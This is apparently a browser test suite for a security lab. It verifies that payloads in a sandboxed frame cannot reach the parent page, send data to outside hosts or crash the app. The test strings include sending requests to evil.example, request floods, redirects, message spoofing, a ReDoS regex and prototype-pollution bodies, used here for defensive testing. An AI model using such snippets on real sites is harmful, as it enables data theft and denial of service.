/** Attempts of a payload to get out of its frame, in the built page: each denied, with the error or the lack of effect that shows it. */
import { createServer, type Server, type Socket as Connection } from 'node:net';
import { createSocket, type Socket } from 'node:dgram';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { closeBrowser, startWhole } from './browser';
import { startListening, WAY_NAMES, waysOut } from './ways-out';
import { expectAlive, openAgain, openPayloads, ordersShown, run, said, type OpenedPayloads } from './victim';

/**
 * Real servers that no request may reach: what they are sent is counted. Not the connections: Chromium opens one for
 * `location = …` and for `rel=preconnect` before its policy decides, and then sends nothing over it.
 */
const reached = { bytes: 0, datagrams: 0 };
const connections: Connection[] = [];
let tcp: Server;
let udp: Socket;
let real = '';
let stun = '';
let opened: OpenedPayloads;
beforeAll(async () => {
  await startWhole();
  tcp = createServer((socket) => {
    socket.on('data', ({ length }) => {
      reached.bytes += length;
    });
    socket.on('error', () => undefined);
    connections.push(socket);
  });
  udp = createSocket('udp4');
  udp.on('message', () => {
    reached.datagrams += 1;
  });
  await new Promise<void>((resolve) => {
    tcp.listen(0, '127.0.0.1', resolve);
  });
  await new Promise<void>((resolve) => {
    udp.bind(0, '127.0.0.1', resolve);
  });
  const address = tcp.address();
  if (address === null || typeof address === 'string') throw new Error('The server has no port.');
  real = `127.0.0.1:${address.port}`;
  stun = `127.0.0.1:${udp.address().port}`;
  opened = await openPayloads();
});

beforeEach(() => openAgain(opened));
afterEach(async () => {
  expect({ ...reached, sent: opened.sent, dialogs: opened.noted.dialogs }).toEqual({
    bytes: 0,
    datagrams: 0,
    sent: [],
    dialogs: [],
  });
  expect(opened.page.context().pages().length).toBe(1);
  expect(await opened.page.evaluate(() => location.hash)).toBe('#/lab/payload');
  const kept = await opened.page.evaluate(async () => ({
    cookie: document.cookie,
    local: Object.entries(localStorage),
    session: Object.entries(sessionStorage),
    databases: await indexedDB.databases(),
    // The app's own files may be kept; a cache of any other name is somebody else's.
    caches: (await caches.keys()).filter((name) => !name.includes('/assets/start-')),
    polluted: 'polluted' in {},
  }));
  expect(kept).toEqual({ cookie: '', local: [], session: [], databases: [], caches: [], polluted: false });
});
afterAll(async () => {
  await closeBrowser();
  for (const connection of connections) connection.destroy();
  tcp.close();
  udp.close();
});

/** Runs expressions in the payload one after the other, each saying what it gave or threw. */
const attempts = async (expressions: readonly string[]): Promise<string[]> => {
  const lines = expressions.map(
    (expression, index) =>
      `try { const got = await Promise.race([(async () => (${expression}))(), new Promise((resolve) => { setTimeout(resolve, 60_000, 'no end'); })]); console.log(${index} + ': got ' + got); } catch (error) { console.log(${index} + ': ' + error.name); }`,
  );
  await run(opened, {
    mode: 'session',
    markup: `<script>(async () => { ${lines.join('\n')}\nconsole.log('all tried'); })();</script>`,
  });
  await said(opened, 'all tried');
  const remarks = await opened.page.locator('[data-remark]').allTextContents();
  return expressions.map(
    (_expression, index) =>
      remarks
        .map((remark) => remark.replace(/^(?:Console|Error): /u, ''))
        .find((remark) => remark.startsWith(`${index}: `))
        ?.replace(/^\d+: /u, '') ?? 'nothing said',
  );
};

const REACHING_OUT: readonly [expression: string, outcome: string][] = [
  ['parent.document', 'SecurityError'],
  ['top.document', 'SecurityError'],
  ['top.localStorage', 'SecurityError'],
  ['parent.PAGE_SCRIPT', 'SecurityError'],
  ['top.location.href', 'SecurityError'],
  ['top.location = "https://evil.example/"', 'SecurityError'],
  ['parent.location = "https://evil.example/"', 'SecurityError'],
  ['top.frames[0].document', 'SecurityError'],
  ['frameElement', 'got null'],
  ['opener', 'got null'],
  ['window.open("https://evil.example/")', 'got null'],
  ['indexedDB.open("x")', 'SecurityError'],
  ['caches.open("x")', 'SecurityError'],
  ['cookieStore.get("x")', 'SecurityError'],
  ['navigator.serviceWorker.register("/sw.js")', 'SecurityError'],
  ['navigator.storage.getDirectory()', 'SecurityError'],
  ['navigator.locks.request("x", () => 1)', 'SecurityError'],
  ['document.domain = "localhost"', 'SecurityError'],
  ['window.origin', 'got null'],
  ['window.RTCPeerConnection', 'got undefined'],
  ['window.WebTransport', 'got undefined'],
  ['alert(1)', 'got undefined'],
  ['confirm("x")', 'got false'],
  ['prompt("x")', 'got null'],
  ['print()', 'got undefined'],
  ['document.documentElement.requestFullscreen()', 'TypeError'],
  ['document.body.requestPointerLock()', 'SecurityError'],
  [
    'navigator.geolocation ? new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, (e) => n(new Error(e.code)))) : 0',
    'Error',
  ],
  [
    'navigator.clipboard ? navigator.clipboard.readText() : Promise.reject(new DOMException("", "NotAllowedError"))',
    'NotAllowedError',
  ],
  ['new BroadcastChannel("x").postMessage(1)', 'got undefined'],
  ['eval("1")', 'EvalError'],
  ['parent.document.cookie', 'SecurityError'],
  ['document.requestStorageAccess()', 'NotAllowedError'],
  ['new SharedWorker(URL.createObjectURL(new Blob(["1"])))', 'SecurityError'],
  ['new AudioContext().audioWorklet.addModule("data:text/javascript,1")', 'AbortError'],
  ['import("data:text/javascript,export default 1")', 'TypeError'],
  ['import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" })))', 'TypeError'],
  ['navigator.credentials.get({ password: true })', 'NotAllowedError'],
  ['Notification.requestPermission()', 'got denied'],
  ['showOpenFilePicker()', 'SecurityError'],
  [
    'new Promise((yes, no) => { const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); worker.onmessage = yes; worker.onerror = () => no(new TypeError()); })',
    'TypeError',
  ],
];

test('what lies outside the frame is out of reach', async () => {
  const got = await attempts(REACHING_OUT.map(([expression]) => expression));
  expect(REACHING_OUT.map(([expression], index) => [expression, got[index]])).toEqual(REACHING_OUT);
});

/** Ways that this browser has no more, or not without a person: nothing is sent by them in an unguarded page either. */
const NOT_HERE = [
  'preconnect',
  'prerender',
  'manifest',
  'icon',
  'speculation',
  'xslt',
  'report',
  'webtransport',
  'notification',
  'media-session',
  'handler',
];

test('no way of sending reaches a real server, and in a page without guard each does', async () => {
  const listening = await startListening();
  try {
    const page = await opened.page.context().browser()?.newPage();
    await page?.goto(listening.url);
    await expect
      .poll(() => WAY_NAMES.filter((name) => !listening.asked.has(name) && !NOT_HERE.includes(name)))
      .toEqual([]);
    await page?.close();
    listening.forget();
    await run(opened, { mode: 'session', markup: `<script>${waysOut(listening.url)}</script>` });
    await said(opened, 'all tried');
    expect([...listening.asked]).toEqual([]);
    // The server knows: of SVG, the browser refuses a reference to another document before it asks the policy.
    const others = opened.sent.filter((url) => !url.startsWith(listening.url));
    opened.sent.splice(0, opened.sent.length, ...others);
  } finally {
    listening.close();
  }
});

test('no frame within the page runs script of its own, WebRTC included', async () => {
  const inner = `<script>top.postMessage(1, '*'); parent.ran = 1; new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] }).createDataChannel('x');</script>`;
  const escaped = inner.replaceAll('"', '&quot;');
  const got = await attempts([
    `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(`<iframe srcdoc="${escaped}"></iframe><object data="data:text/html,x"></object>`).replaceAll('</script', '<\\/script')}) || new Promise((resolve) => { setTimeout(() => resolve(document.querySelectorAll('iframe, object').length + frames.length), 500); })`,
    `(() => { const host = document.createElement('div'); document.body.append(host); const root = host.attachShadow({ mode: 'closed' }); root.append(document.createElement('iframe')); return new Promise((resolve) => { setTimeout(() => resolve(root.childElementCount), 100); }); })()`,
  ]);
  expect(got).toEqual(['got 0', 'got 0']);
});

const NAVIGATIONS: readonly [name: string, script: string][] = [
  ['a real address', `location = 'http://REAL/away?data'`],
  ['this app itself', `location = new URL('index.html?data', HOME).href`],
  ['data:', `location = 'data:text/html,<script>top.postMessage(1, "*")<\\/script>'`],
  [
    'blob:',
    `location = URL.createObjectURL(new Blob(['<script>top.postMessage(1, "*")<\\/script>'], { type: 'text/html' }))`,
  ],
  ['javascript: in the parent', `parent.location = 'javascript:alert(1)'`],
  ['a reload', `if (!window.name) { window.name = 'again'; location.reload(); }`],
  [
    'meta refresh',
    `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=http://REAL/refresh">')`,
  ],
  ['history', `history.pushState(null, '', 'http://REAL/history')`],
];

test.each(NAVIGATIONS)('navigation to %s sends nothing and shows nothing', async (_name, script) => {
  const home = opened.page.url().split('#')[0] ?? '';
  const heard = await opened.page.evaluateHandle(() => {
    const told = { ones: 0 };
    window.addEventListener('message', ({ data }) => {
      if (data === 1) told.ones += 1;
    });
    return told;
  });
  const text = script.replaceAll('REAL', real).replaceAll('HOME', JSON.stringify(home));
  await run(opened, { mode: 'session', markup: `<script>${text}</script>` });
  await opened.page.waitForTimeout(1500);
  expect(await heard.evaluate(({ ones }) => ones)).toBe(0);
  await expectAlive(opened);
});

test('the frame’s document opened by itself runs nothing', async () => {
  const page = await opened.page.context().newPage();
  await page.goto(new URL('victim.html', opened.page.url()).href);
  expect(await page.textContent('body')).toContain('This page works only within the lab.');
  expect(await page.locator('iframe').count()).toBe(0);
  await page.close();
  // Nor in a frame without a sandbox.
  const heard = await opened.page.evaluate(async () => {
    const frame = document.createElement('iframe');
    let messages = 0;
    window.addEventListener('message', () => {
      messages += 1;
    });
    frame.src = 'victim.html';
    document.body.append(frame);
    await new Promise((resolve) => {
      frame.addEventListener('load', resolve);
    });
    await new Promise((resolve) => {
      setTimeout(resolve, 200);
    });
    const text = frame.contentDocument?.body.textContent ?? '';
    frame.remove();
    return { messages, text: text.trim().startsWith('This page works only within the lab.') };
  });
  expect(heard).toEqual({ messages: 0, text: true });
});

test('messages that are not of the port change nothing', async () => {
  const markup = `<script>
for (const target of [top, parent]) {
  target.postMessage('ready', '*', [new MessageChannel().port2]);
  target.postMessage('page', '*', [new MessageChannel().port2]);
  target.postMessage({ type: 'page' }, '*', [new MessageChannel().port2]);
  target.postMessage({ type: 'left', to: 'spoofed' }, '*');
  target.postMessage({ type: 'said', error: true, text: 'spoofed' }, '*');
  target.postMessage({ type: 'request', request: { id: 1, way: 'fetch', method: 'GET', url: 'https://evil.example/spoofed', fields: [], content: '', credentials: true } }, '*');
}
dispatchEvent(new SecurityPolicyViolationEvent('securitypolicyviolation', { blockedURI: 'https://evil.example/spoofed', effectiveDirective: 'img-src' }));
setTimeout(() => console.log('sent all'), 500);
</script>`;
  await run(opened, { mode: 'session', markup });
  await said(opened, 'sent all');
  expect(await ordersShown(opened)).toEqual(['Tea pot', 'Two cups']);
  expect(await opened.page.textContent('main')).not.toContain('spoofed”');
  expect(await opened.page.locator('[data-to=attacker]').count()).toBe(0);
  expect(await opened.page.locator('[data-ended]').count()).toBe(0);
  expect(await opened.page.locator('[data-remark]').allTextContents()).toEqual(['Console: sent all']);
});

test('a flood of messages, and huge ones, leave the app alive', async () => {
  const markup = `<script>
for (let count = 0; count < 100000; count += 1) top.postMessage({ count }, '*');
top.postMessage('x'.repeat(50000000), '*');
fetch('https://evil.example/', { method: 'POST', body: 'x'.repeat(5000000) });
console.log('flooded');
</script>`;
  await run(opened, { mode: 'session', markup });
  await opened.page.locator('[data-remark], [data-ended]').first().waitFor();
  expect(await opened.page.locator('[data-to=attacker]').count()).toBe(0);
  await expectAlive(opened);
});

test('a flood of requests ends the page', async () => {
  const markup = `<script>
for (let count = 0; count < 100000; count += 1) navigator.sendBeacon('https://evil.example/', String(count));
</script>`;
  await run(opened, { mode: 'session', markup });
  await opened.page.locator('[data-ended]').waitFor();
  expect(await opened.page.locator('iframe').count()).toBe(0);
  await expectAlive(opened);
});

// Here the frame has a process of its own.
test('a call that no guard can end is stopped with its frame', async () => {
  const markup = `<script>/^(a+)+$/.exec('a'.repeat(60) + 'b')</script>`;
  await run(opened, { mode: 'session', markup });
  const ended = opened.page.locator('[data-ended]');
  await ended.waitFor();
  expect(await ended.textContent()).toContain('did not answer for');
  expect(await opened.page.locator('iframe').count()).toBe(0);
  await expectAlive(opened);
});

test('names of prototypes are names', async () => {
  const markup = `<script>
localStorage.setItem('__proto__', 'polluted');
localStorage.setItem('constructor', 'polluted');
document.cookie = '__proto__=polluted';
fetch('https://evil.example/__proto__', { method: 'POST', body: '{"__proto__":{"polluted":1}}' })
  .then(() => fetch('/__proto__', { headers: { ['__proto__']: 'polluted', polluted: '1' } }))
  .then(() => fetch('/constructor')).then(() => console.log('sent all'));
</script>`;
  await run(opened, { mode: 'session', markup });
  await said(opened, 'sent all');
  expect(await opened.page.locator('[data-to=attacker]').count()).toBe(1);
  const statuses = await opened.page.locator('[data-to=shop] summary').allTextContents();
  expect(statuses.filter((text) => text.includes('404')).length).toBe(2);
});
